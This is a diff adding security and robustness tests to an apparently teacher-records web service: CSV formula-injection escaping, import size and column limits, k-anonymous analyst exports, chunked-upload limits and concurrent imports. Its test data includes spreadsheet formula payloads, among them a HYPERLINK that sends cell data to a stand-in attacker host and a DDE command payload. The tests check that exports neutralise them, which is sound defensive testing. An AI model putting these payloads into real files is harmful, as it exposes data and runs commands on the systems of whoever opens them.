@@ -4,6 +4,10 @@ from __future__ import annotations
 
 import csv
 import io
+import json
+import threading
+import time
+from collections import Counter
 
 import sqlalchemy as sa
 from hypothesis import HealthCheck, given, settings
@@ -168,16 +172,18 @@ def test_analyst_export_is_pseudonymised(client):
     resp = client.get("/api/v1/teachers/export", headers=ACCOUNTS["analyst_n"].headers)
     assert resp.status_code == 200
     text = resp.get_data(as_text=True)
-    report = parse_teachers_csv(text)
-    assert len(report.profiles) == len(TEACHERS["north"])
-    for p in report.profiles:
-        assert p.id.startswith("p-") and p.name == p.id and p.email == "" and p.about == ""
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))  # the analyst layout, not the import format
+    assert len(rows) == len(TEACHERS["north"])
+    for r in rows:
+        assert r["pseudonym"].startswith("p-") and not {"id", "name", "email", "about", "school_urn"} & set(r)
     assert not any(tid in text for tid in TEACHERS["north"])
     assert "@" not in text
 
 
 @settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(about=st.text(max_size=50), years=st.integers(-5, 60))
+
+
 def test_patch_never_500s(client, about, years):
     resp = client.patch("/api/v1/teachers/n-04", json={"about": about, "years_teaching": years}, headers=COORD_ANY)
     ok = 0 <= years <= 50 and "\x00" not in about
@@ -325,3 +331,139 @@ def test_two_edits_from_the_same_version_one_wins(app):
         assert t.id == "n-06"
     with db.new_session(app) as s:
         assert s.get(Teacher, "n-06").about == "the other edit"
+
+
+# ---- hostile files and exports (issue 13) --------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3"]
+
+
+def test_teacher_export_neutralises_formulas_and_reads_back(client):
+    rows = _rows(len(FORMULAS), prefix="f")
+    for row, name in zip(rows, FORMULAS):
+        row["name"] = name
+    assert client.post("/api/v1/teachers/import", data=_csv(rows), headers={**COORD, "Content-Type": "text/csv"}).status_code == 200
+    text = client.get("/api/v1/teachers/export", headers=COORD).get_data(as_text=True)
+    exported = {r["id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
+    for row, name in zip(rows, FORMULAS):
+        assert exported[row["id"]]["name"] == "'" + name
+    for r in exported.values():
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values()), r
+    assert {p.name for p in parse_teachers_csv(text).profiles} >= set(FORMULAS)  # the export still imports back
+
+
+def test_import_of_40000_columns_is_refused_fast(client):
+    text = ",".join(f"c{i}" for i in range(40_000)) + "\n" + "x," * 39_999 + "x\n"
+    start = time.perf_counter()
+    body = problem(client.post("/api/v1/teachers/import", data=text, headers={**COORD, "Content-Type": "text/csv"}), 422)
+    assert time.perf_counter() - start < 2.0
+    assert "at most 200" in body["errors"][0]["message"]
+
+
+def test_import_report_of_100000_bad_rows_is_bounded(client, app):
+    before = count_rows(app, Teacher)
+    text = "id,name,school_urn,department_size,key_stages,challenges,strengths\n" + "".join(f"bad id {i},,100049,0,KS3,,\n" for i in range(100_000))
+    resp = client.post("/api/v1/teachers/import", data=text, headers={**COORD, "Content-Type": "text/csv"})
+    body = problem(resp, 422)
+    assert len(resp.get_data()) < 1_000_000
+    assert len(body["errors"]) == 1000 and body["truncated"] is True
+    assert body["issue_count"] >= 300_000 and body["issues_by_field"]["department_size"] == 100_000
+    assert "the first 1000 are listed" in body["detail"]
+    assert count_rows(app, Teacher) == before
+
+
+def test_analyst_export_is_k_anonymous(client, app):
+    from service.services.analyst import K, SUPPRESSED, TEACHER_QUASI
+
+    text = client.get("/api/v1/teachers/export", headers=ACCOUNTS["analyst_n"].headers).get_data(as_text=True)
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert len(rows) == len(TEACHERS["north"])
+    assert "school_urn" not in rows[0] and "name" not in rows[0] and "email" not in rows[0]
+    combos = Counter(tuple(r[q] for q in TEACHER_QUASI) for r in rows)
+    for combo, n in combos.items():
+        assert n >= K or all(v == SUPPRESSED for v in combo), (combo, n)
+    assert {r["department_size"] for r in rows} <= {"1", "2-3", "4+", SUPPRESSED}
+
+
+def test_analyst_export_keeps_combinations_shared_by_five(client, app):
+    """Five teachers alike (borough, department band, role, experience) keep their borough; a lone one is generalised."""
+    rows = _rows(6, prefix="k")
+    for r in rows:
+        r.update(department_size="1", role="head_of_music", years_teaching="12")
+    rows[5].update(role="non_specialist", years_teaching="1")  # a department of one, and the only one like it
+    assert client.post("/api/v1/teachers/import", data=_csv(rows), headers={**COORD, "Content-Type": "text/csv"}).status_code == 200
+    borough = client.get("/api/v1/schools/100049", headers=COORD).get_json()["local_authority"]
+    text = client.get("/api/v1/teachers/export", headers=ACCOUNTS["analyst_n"].headers).get_data(as_text=True)
+    out = Counter((r["local_authority"], r["department_size"], r["role"], r["years_teaching"]) for r in csv.DictReader(io.StringIO(text, newline="")))
+    assert out[(borough, "1", "head_of_music", "10+")] >= 5
+    assert not any(role == "non_specialist" and n < 5 for (_, _, role, _), n in out.items())
+
+
+def _chunks(data: bytes, size: int = 4096):
+    return iter([data[i : i + size] for i in range(0, len(data), size)])
+
+
+def test_chunked_upload_over_the_limit_is_413_not_empty(client, app):
+    app.config["MAX_CONTENT_LENGTH"] = 10_000
+    big = _csv(_rows(400)).encode()
+    assert len(big) > 10_000
+    # gunicorn (and werkzeug's server) de-chunk the body and set wsgi.input_terminated
+    gunicorn_like = {"wsgi.input_terminated": True, "CONTENT_LENGTH": ""}  # the test client would count the bytes
+    headers = {**COORD, "Content-Type": "text/csv", "Transfer-Encoding": "chunked"}
+    resp = client.post("/api/v1/teachers/import", input_stream=io.BytesIO(big), headers=headers, environ_overrides=gunicorn_like)
+    body = problem(resp, 413)
+    assert "10,000 bytes" in body["detail"] and "empty" not in body["detail"]
+    small = _csv(_rows(3, prefix="c")).encode()
+    ok = client.post("/api/v1/teachers/import", input_stream=io.BytesIO(small), headers=headers, environ_overrides=gunicorn_like)
+    assert ok.status_code == 200 and ok.get_json()["created"] == 3
+    # exactly at the limit is fine
+    app.config["MAX_CONTENT_LENGTH"] = len(small)
+    again = client.post("/api/v1/teachers/import", input_stream=io.BytesIO(small), headers=headers, environ_overrides=gunicorn_like)
+    assert again.status_code == 200 and again.get_json()["updated"] == 3
+    # a server that cannot terminate a chunked body: ask for a length instead of reading nothing
+    problem(client.post("/api/v1/teachers/import", input_stream=io.BytesIO(small), headers=headers, environ_overrides={"CONTENT_LENGTH": ""}), 411)
+
+
+def test_chunked_upload_over_the_limit_on_a_real_socket(app):
+    import http.client
+
+    from werkzeug.serving import make_server
+
+    app.config["MAX_CONTENT_LENGTH"] = 10_000
+    server = make_server("127.0.0.1", 0, app, threaded=True)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        conn = http.client.HTTPConnection("127.0.0.1", server.server_port, timeout=30)
+        conn.request("POST", "/api/v1/teachers/import", body=_chunks(_csv(_rows(400)).encode()), headers={**COORD, "Content-Type": "text/csv"}, encode_chunked=True)
+        resp = conn.getresponse()
+        data = json.loads(resp.read())
+        assert resp.status == 413 and resp.getheader("Content-Type") == "application/problem+json", data
+        assert "larger than the limit" in data["detail"]
+        conn.close()
+    finally:
+        server.shutdown()
+        thread.join(10)
+
+
+def test_two_identical_imports_at_once_never_500(app, caplog):
+    import logging
+
+    from .test_api_peers import _together
+
+    caplog.set_level(logging.DEBUG)
+    before = count_rows(app, Teacher)
+    for attempt in range(3):
+        rows = _rows(300, prefix=f"twice{attempt}")
+        for r in rows:
+            r.update(name=f"Secret Name {r['id']}", email=f"{r['id']}@private.example")
+        text = _csv(rows)
+        responses = _together(app, 2, lambda c, text=text: c.post("/api/v1/teachers/import", data=text, headers={**COORD, "Content-Type": "text/csv"}))
+        statuses = sorted(r.status_code for r in responses)
+        assert statuses in ([200, 200], [200, 409]), (attempt, [r.get_data(as_text=True)[:300] for r in responses])
+        for r in responses:
+            if r.status_code == 409:
+                assert r.mimetype == "application/problem+json" and "again" in r.get_json()["detail"]
+    assert count_rows(app, Teacher) == before + 900
+    logged = "\n".join(f"{r.getMessage()}\n{r.exc_text or ''}" for r in caplog.records)
+    assert "private.example" not in logged and "Secret Name" not in logged  # types and ids, not personal data
